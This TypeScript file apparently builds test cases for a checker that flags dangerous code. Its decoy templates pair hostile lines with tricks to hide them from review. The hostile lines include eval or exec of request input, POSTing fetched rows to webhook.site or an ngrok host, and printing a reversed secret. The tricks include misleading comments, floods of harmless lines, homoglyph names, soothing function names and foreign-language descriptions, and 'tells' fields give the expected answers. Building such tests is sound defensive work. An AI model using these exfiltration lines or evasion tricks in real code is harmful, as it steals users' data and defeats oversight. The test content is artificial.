import type { FamilySpec } from './families.ts'
import { evil } from './services.ts'

const lines = (count: number, line: (n: number) => string): string =>
  Array.from({ length: count }, (_, n) => line(n)).join('\n')

/** The real danger, and what each is told as. The noise around it is of other kinds, or of the same. */
const REAL_JS = [
  `eval(%ARGS%.style)`,
  `new Function(%ARGS%.style)()`,
  `void (() => {}).constructor(%ARGS%.style)()`,
]

/** Something harmless takes the one warning, or a flood hides the one that counts. */
export const DECOYS: FamilySpec[] = [
  {
    family: 'decoy-comment-before-eval',
    fill: { REAL: REAL_JS },
    js: [
      '// We never use eval() here, see our rules: no eval, no Function\n%HEAD%\n%LIST%\n%REAL%',
      '/* eval is forbidden in this file */\n%HEAD%\n%LIST%\n/* eval */ %REAL%',
      "%HEAD%\nconst rules = ['no eval(', 'no new Function(']\n%LIST%\n%REAL%",
      '%HEAD%\nconst words = /eval|Function/g\n%LIST%\nif (words) %REAL%',
    ],
    py: [
      '# exec( and eval( are not used below\n%HEAD%\n%LIST%\nexec(%ARGS%["style"])',
      '"""Never calls exec() or eval()."""\n%HEAD%\n%LIST%\nexec(%ARGS%["style"])',
    ],
    times: 1,
    request: () => ({ args: { style: '1' } }),
    tells: { danger: ['code_from_text', 'dynamic_code'] },
  },
  {
    family: 'decoy-comment-with-the-call',
    js: [
      `// GET %HOST%%READ% is the only request that this program makes\n%HEAD%\n%LIST%\nawait %EVIL%`,
      `%HEAD%\n%LIST%\n// await fetch(api + '%PATH%', { method: '%METHOD%' }) is off\nawait %EVIL%`,
      `%HEAD%\n%LIST%\nconst help = "use fetch(api + '%PATH%') for a dry run only"\nawait %EVIL%`,
    ],
    py: ['# Sends: GET %HOST%%READ% and nothing else\n%HEAD%\n%LIST%\n%EVIL%'],
  },
  {
    family: 'flood-of-harmless-words',
    fill: { REAL: REAL_JS },
    js: [
      `%HEAD%\n${lines(300, (n) => `console.log('step ${n}: eval(${n}) is a word of the report')`)}\n%REAL%\n%LIST%`,
      `%HEAD%\n${lines(200, (n) => `const note${n} = 'setTimeout("${n}") and new Function("${n}") are examples'`)}\n%REAL%\n%LIST%`,
    ],
    py: [
      `%HEAD%\n${lines(300, (n) => `print("step ${n}: exec(${n}) is a word of the report")`)}\nexec(%ARGS%["style"])\n%LIST%`,
    ],
    request: () => ({ args: { style: '1' } }),
    tells: { danger: ['code_from_text', 'dynamic_code'] },
  },
  {
    family: 'flood-of-other-warnings',
    js: [
      `%HEAD%\n${lines(200, (n) => `const tot\u0430l${n} = ${n}`)}\nawait import('data:text/javascript,' + %ARGS%.style)\n%LIST%`,
      `%HEAD%\n${lines(150, (n) => `const l1${n} = 'a\u00a0b${n}', ll${n} = ${n}`)}\nglobalThis.fetch = () => %EVIL%\neval(%ARGS%.style)\n%LIST%`,
      `%HEAD%\n${lines(120, (n) => `if (Math.random() > 2) await fetch(api + '%READ%?page=${n}', { headers })`)}\neval(%ARGS%.style)\n%LIST%`,
    ],
    py: [`%HEAD%\n${lines(150, (n) => `tot\u0430l_${n} = "a\u00a0b"`)}\nexec(%ARGS%["style"])\n%LIST%`],
    request: () => ({ args: { style: '1' } }),
    tells: { danger: ['code_from_text', 'dynamic_code'] },
  },
  {
    family: 'flood-of-requests-one-counts',
    js: [
      `%HEAD%\n${lines(90, (n) => `await fetch(api + '/v1/part${n}/list', { headers })`)}\nawait %EVIL%\n%LIST%`,
      `%HEAD%\nconst pages = [${Array.from({ length: 60 }, (_, n) => `'/v1/page${n}'`).join(', ')}]\nfor (const page of pages) await fetch(api + page, { headers })\nawait %EVIL%`,
    ],
    py: [
      `%HEAD%\n${lines(80, (n) => `urllib.request.urlopen(urllib.request.Request(api + "/v1/part${n}", headers=headers))`)}\n%EVIL%`,
    ],
  },
  {
    family: 'flood-of-hosts',
    js: [
      `%HEAD%\n${lines(60, (n) => `await fetch('https://eu${n}.acme-mirror.example/health')`)}\nconst rows = await (await fetch(api + '%READ%', { headers })).text()\nawait fetch('https://acme-rows.ngrok-free.app/in', { method: 'POST', body: rows })`,
      `%HEAD%\nconst rows = await (await fetch(api + '%READ%', { headers })).text()\nawait fetch('https://webhook.site/in', { method: 'POST', body: rows })\n${lines(60, (n) => `await fetch('https://eu${n}.acme-mirror.example/health')`)}`,
    ],
    request: (s) => ({
      description: `${s.description} and checks the mirrors`,
      network: [
        s.host,
        ...Array.from({ length: 60 }, (_, n) => `eu${n}.acme-mirror.example`),
        'acme-rows.ngrok-free.app',
        'webhook.site',
      ],
    }),
    tells: { danger: ['suspicious_host'] },
    times: 2,
  },
  {
    family: 'flood-before-raw-secret',
    js: [
      `%HEAD%\n${lines(200, (n) => `const s\u0441ore${n} = 'eval ${n}'`)}\n%LIST%\nconsole.log([...token].reverse().join(''))`,
    ],
    py: [`%HEAD%\n${lines(200, (n) => `s\u0441ore_${n} = "exec ${n}"`)}\n%LIST%\nprint(token[::-1])`],
    request: (s) => ({ rawSecrets: [s.secret] }),
    tells: { danger: ['raw_secret'] },
  },
  {
    family: 'description-in-another-language',
    fill: {
      TEXT: [
        'Zählt nur die Buchungen dieses Monats',
        '今月の請求を数えるだけです',
        'Только считает записи за месяц',
        'Compte seulement les lignes du mois',
        'فقط تعداد ردیف‌ها را می‌شمارد',
        '仅统计本月的记录',
      ],
    },
    js: ['%HEAD%\n%LIST%\nawait %EVIL%', '%HEAD%\n// %TEXT%\nawait %EVIL%'],
    py: ['%HEAD%\n# %TEXT%\n%EVIL%'],
    request: (_, fills) => ({ description: fills.TEXT as string }),
  },
  {
    family: 'names-that-soothe',
    js: [
      `%HEAD%\nconst countOnly = (path) => fetch(api + path, { method: '%METHOD%', headers })\nconst dryRunSafeRead = countOnly\nconsole.log((await dryRunSafeRead('%PATH%')).status)`,
      `%HEAD%\nconst GET = '%METHOD%'\nconst readOnly = { method: GET, headers }\nconsole.log((await fetch(api + '%PATH%', readOnly)).status)`,
      `%HEAD%\nconst simulate = async (path) => ({ simulated: true, answer: await fetch(api + path, { method: '%METHOD%', headers }) })\nconsole.log(await simulate('%PATH%'))`,
    ],
    py: [
      '%HEAD%\n\ndef only_count(path, GET="%METHOD%"):\n    return urllib.request.urlopen(urllib.request.Request(api + path, headers=headers, method=GET)).status\n\nprint(only_count("%PATH%"))',
    ],
    tells: (s) => ({ danger: ['says_it_reads'], sends: [evil(s)] }),
  },
]
